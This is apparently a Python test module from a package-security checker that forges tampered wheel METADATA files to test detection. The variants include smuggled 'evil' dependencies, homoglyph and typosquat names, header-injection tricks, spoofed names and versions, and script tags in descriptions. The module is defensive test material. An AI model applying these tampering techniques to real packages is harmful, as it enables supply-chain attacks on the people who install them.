"""METADATA: what gets installed beside the wheel, and what people are shown."""

from tests.attacks.catalogue.technique import Family
from tests.support.real_wheels import RealWheel

METADATA = Family("METADATA")


def _text(wheel: RealWheel) -> bytes:
    return wheel.files[wheel.info("METADATA")]


def _whole(wheel: RealWheel, text: bytes) -> bytes:
    assert text != _text(wheel)
    return wheel.forge({wheel.info("METADATA"): text})


def _fields(wheel: RealWheel, *lines: bytes) -> bytes:
    """The wheel with fields behind the version."""
    name, version, rest = _text(wheel).partition(b"Summary: ")
    return _whole(wheel, name + b"".join(line + b"\n" for line in lines) + version + rest)


def _replaced(wheel: RealWheel, old: bytes, new: bytes) -> list[bytes]:
    text = _text(wheel)
    return [_whole(wheel, text.replace(old, new, 1))] if old.strip() and old in text else []


def _renamed(wheel: RealWheel, *names: bytes) -> list[bytes]:
    """The wheel with other names for one of its dependencies."""
    made = [_replaced(wheel, b"Requires-Dist: pytest", b"Requires-Dist: " + name) for name in names]
    return [each for one in made for each in one]


def _line(wheel: RealWheel, start: bytes) -> bytes:
    """The first line that begins so; empty without one."""
    lines = _text(wheel).split(b"\n\n")[0].split(b"\n")
    return next((line for line in lines if line.startswith(start)), b"")


@METADATA.dangerous("metadata.dependency-added", "Another package is installed as well.")
def dependency_added(wheel: RealWheel) -> list[bytes]:
    requirements = (
        b"Requires-Dist: evil",
        b"requires-dist: evil",
        b"Requires-Dist: evil @ https://example.org/evil-1.0-py3-none-any.whl",
        b"Requires-Dist: evil; python_version < '4'",
    )
    return [_fields(wheel, line) for line in requirements]


@METADATA.unexplained("metadata.dependencies-differ", "The package is installed on demand only.")
def dependency_in_an_extra(wheel: RealWheel) -> bytes:
    return _fields(wheel, b"Provides-Extra: fast", b'Requires-Dist: evil; extra == "fast"')


@METADATA.unexplained("metadata.dependencies-differ", "A test dependency becomes everybody's.")
def marker_taken_away(wheel: RealWheel) -> list[bytes]:
    line = _line(wheel, b"Requires-Dist")
    return _replaced(wheel, line, line.partition(b" ;")[0])


@METADATA.unexplained("metadata.dependencies-differ", "A condition that is always true.")
def marker_widened(wheel: RealWheel) -> list[bytes]:
    line = _line(wheel, b"Requires-Dist")
    return _replaced(wheel, line, line + b" or os_name != 'x'")


@METADATA.unexplained("metadata.dependencies-differ", "A name that looks like the honest one.")
def dependency_by_another_name(wheel: RealWheel) -> list[bytes]:
    return _renamed(wheel, b"pytests", b"pytest-x")


@METADATA.dangerous("metadata.deceptive-characters", "A name that looks just like the honest one.")
def dependency_by_a_deceptive_name(wheel: RealWheel) -> list[bytes]:
    return _renamed(wheel, "p\u0443test".encode(), "pytest\u200b".encode(), b"pytest\x08")


@METADATA.unexplained("metadata.dependencies-differ", "An old release with known faults is taken.")
def dependency_pinned(wheel: RealWheel) -> list[bytes]:
    pin = b"Requires-Dist: pytest (==2.0)"
    return _replaced(wheel, b"Requires-Dist: pytest", pin)


@METADATA.unexplained("metadata.dependencies-differ", "A package that the program needs is gone.")
def dependency_left_out(wheel: RealWheel) -> list[bytes]:
    line = _line(wheel, b"Requires-Dist")
    return _replaced(wheel, line + b"\n", b"")


@METADATA.unexplained("metadata.dependencies-differ", "Installed where the source forbids it.")
def python_requirement(wheel: RealWheel) -> list[bytes]:
    line = _line(wheel, b"Requires-Python")
    return [
        *_replaced(wheel, line, b"Requires-Python: >=2.0"),
        *_replaced(wheel, line, line + b", !=3.99"),
        *_replaced(wheel, line + b"\n", b""),
    ]


@METADATA.dangerous("metadata.dependency-added", "Some parsers see a requirement, some text.")
def dependency_behind_a_carriage_return(wheel: RealWheel) -> list[bytes]:
    summary = _line(wheel, b"Summary")
    return _replaced(wheel, summary, summary + b"\rRequires-Dist: evil")


@METADATA.unexplained("member.differs", "A parser that goes on behind the empty line installs it.")
def dependency_in_the_body(wheel: RealWheel) -> bytes:
    head, _, body = _text(wheel).partition(b"\n\n")
    return _whole(wheel, head + b"\n\nRequires-Dist: evil\n" + body)


@METADATA.unexplained("member.differs", "A parser that unfolds badly installs it.")
def dependency_in_a_folded_line(wheel: RealWheel) -> list[bytes]:
    summary = _line(wheel, b"Summary")
    return _replaced(wheel, summary, summary + b"\n Requires-Dist: evil")


@METADATA.dangerous("metadata.name", "The installation passes for another project.")
def other_name(wheel: RealWheel) -> list[bytes]:
    line = _line(wheel, b"Name: ")
    return [*_replaced(wheel, line, b"Name: evil"), *_replaced(wheel, line + b"\n", b"")]


@METADATA.dangerous("metadata.name", "Tools differ in which of two names they take.")
def two_names(wheel: RealWheel) -> list[bytes]:
    line = _line(wheel, b"Name: ")
    return [
        *_replaced(wheel, line, line + b"\nName: evil"),
        *_replaced(wheel, line, line + b"\rname: evil"),
    ]


@METADATA.dangerous("metadata.version", "An old release passes for one without known faults.")
def other_version(wheel: RealWheel) -> list[bytes]:
    line = _line(wheel, b"Version: ")
    return [
        *_replaced(wheel, line, b"Version: 99"),
        *_replaced(wheel, line, line + b"+local"),
        *_replaced(wheel, line, line + b"\nVersion: 99"),
    ]


@METADATA.unexplained("member.differs", "People are sent to another place.")
def other_address(wheel: RealWheel) -> list[bytes]:
    return [
        *_replaced(wheel, _line(wheel, b"Home-page"), b"Home-page: https://example.org/"),
        _fields(wheel, b"Project-URL: Documentation, https://example.org/"),
        _fields(wheel, b"Download-URL: https://example.org/x.exe"),
    ]


@METADATA.unexplained("member.differs", "People are shown another author or license.")
def other_author_or_license(wheel: RealWheel) -> list[bytes]:
    author, license_line = _line(wheel, b"Author"), _line(wheel, b"License: ")
    return [
        *_replaced(wheel, author, author + b", Mallory <m@example.org>"),
        *_replaced(wheel, license_line, b"License: Proprietary"),
    ]


@METADATA.unexplained("member.differs", "A script in a page that shows the description.")
def other_description(wheel: RealWheel) -> list[bytes]:
    text = _text(wheel)
    return [
        _whole(wheel, text + b"<script src=x></script>\n"),
        _whole(wheel, text.replace(b"\n\n", b"\n\n.. raw:: html\n\n   <script/>\n\n", 1)),
    ]


@METADATA.unexplained("member.differs", "Renderers take text for markup.")
def other_content_type(wheel: RealWheel) -> list[bytes]:
    line = _line(wheel, b"Description-Content-Type")
    return _replaced(wheel, line, b"Description-Content-Type: text/html")


@METADATA.unexplained("member.differs", "The project is listed where it does not belong.")
def other_classifiers(wheel: RealWheel) -> list[bytes]:
    line = _line(wheel, b"Classifier")
    return [
        *_replaced(wheel, line, b"Classifier: Development Status :: 7 - Inactive"),
        *_replaced(wheel, line + b"\n", b""),
        _fields(wheel, b"Keywords: bank,password", b"Obsoletes-Dist: pip"),
    ]


@METADATA.unexplained("member.differs", "Tools take the rest of the fields for the description.")
def fields_cut_off(wheel: RealWheel) -> list[bytes]:
    line = _line(wheel, b"Requires-Python")
    return _replaced(wheel, line, b"\n" + line)


@METADATA.dangerous("metadata.name", "Parsers that mind a byte order mark see no fields at all.")
def metadata_after_a_byte_order_mark(wheel: RealWheel) -> bytes:
    return _whole(wheel, b"\xef\xbb\xbf" + _text(wheel))


@METADATA.unexplained("metadata.oversized", "The judge is kept busy with names of fields.")
def thousands_of_fields(wheel: RealWheel) -> bytes:
    return _fields(wheel, *(b"X-%d: 1" % at for at in range(5_000)))


@METADATA.dangerous("distinfo.missing-file", "Nothing tells what was installed.")
def no_metadata(wheel: RealWheel) -> bytes:
    return wheel.forge({wheel.info("METADATA"): None})
